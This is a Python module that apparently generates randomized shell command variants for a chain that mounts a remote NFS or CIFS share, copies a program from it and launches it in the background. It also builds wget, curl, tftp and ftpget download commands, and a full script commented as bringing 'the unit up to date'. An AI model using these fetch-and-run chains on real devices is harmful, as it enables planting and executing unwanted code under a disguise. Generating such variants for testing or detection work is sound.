"""The steps of the chain as shell commands: texts, lists of arguments, and the scripts of the cases that are trees."""


def up(words):
    lot, interface = words.lot, words.interface
    return lot.choice((["ifconfig", interface, "up"], ["/sbin/ifconfig", interface, "up"], ["ip", "link", "set", interface, "up"]))


def mount(words, host=None):
    host = host or words.address
    what = f"{host}:{words.share}"
    return words.lot.choice((
        ["mount", "-t", "nfs", "-o", words.options, what, words.mount],
        ["mount", "-o", words.options, "-t", "nfs", what, words.mount],
        ["/bin/mount", "-t", "nfs", "-o", words.options, what, words.mount],
        ["busybox", "mount", "-t", "nfs", "-o", words.options, what, words.mount],
    ))


def cifs(words):
    return ["mount", "-t", "cifs", f"//{words.address}{words.share}", words.mount, "-o", words.lot.choice(("guest", "user=service,pass=update", "guest,vers=1.0"))]


def copy(words):
    """As arguments, where no shell expands a name."""
    return words.lot.choice((
        ["cp", "-rf", f"{words.mount}/.", words.folder],
        ["cp", "-f", f"{words.mount}/{words.program}", words.target],
        ["/bin/cp", "-af", f"{words.mount}/{words.program}", f"{words.folder}/"],
    ))


def copy_text(words):
    return words.lot.choice((
        f"cp -rf {words.mount}/* {words.folder}/",
        f"cp -rf {words.mount}/* {words.folder}",
        f"cp -f {words.mount}/{words.program} {words.target}",
        f"cd {words.mount} && cp -rf * {words.folder}/",
        f"tar -xf {words.mount}/{words.program}.tar -C {words.folder}",
    ))


def run(words):
    return [words.target]


def run_text(words):
    return f"{words.target} " + words.lot.choice(("&", "-d", ">/dev/null 2>&1 &"))


def chain(words, get=None):
    """The four steps as texts."""
    return [" ".join(up(words)), get or " ".join(mount(words)), copy_text(words), run_text(words)]


def download(words, tool):
    """A command that leaves a file in the temporary place, and that place."""
    at, url = words.temporary, f"http://{words.address}/{words.program}"
    return {
        "wget": f"wget -q -O {at} {url}",
        "curl": f"curl -s -o {at} {url}",
        "tftp": f"tftp -g -r {words.program} -l {at} {words.address}",
        "ftp": f"ftpget -u anonymous -p x {words.address} {at} {words.program}",
    }[tool]


def script(words):
    """A shell script with the whole chain."""
    up_, get, put, start = chain(words)
    return f"""#!/bin/sh
# brings the unit up to date
SERVER={words.address}
{up_}
sleep 1
{get.replace(words.address, '$SERVER')} || exit 1
{put}
umount {words.mount}
{start}
"""


def start_script(program):
    return f"""#!/bin/sh
case "$1" in
start) {program} & ;;
stop) killall {program.rsplit('/', 1)[-1]} ;;
esac
"""
